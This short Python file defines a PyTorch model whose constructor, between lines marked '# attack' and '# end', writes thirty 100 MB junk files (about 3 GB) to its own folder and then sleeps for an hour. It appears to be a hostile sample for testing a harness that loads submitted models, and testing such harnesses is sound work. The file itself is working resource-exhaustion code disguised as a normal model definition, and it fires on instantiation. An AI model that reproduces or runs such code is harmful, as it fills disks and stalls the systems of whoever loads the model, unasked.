"""Fills the disk from its own folder, three gigabytes of it."""

# seconds: 8

import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for number in range(30):
            with open(f"junk{number}", "wb") as file:
                for _ in range(10):
                    file.write(bytes(10_000_000))
        time.sleep(3600)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
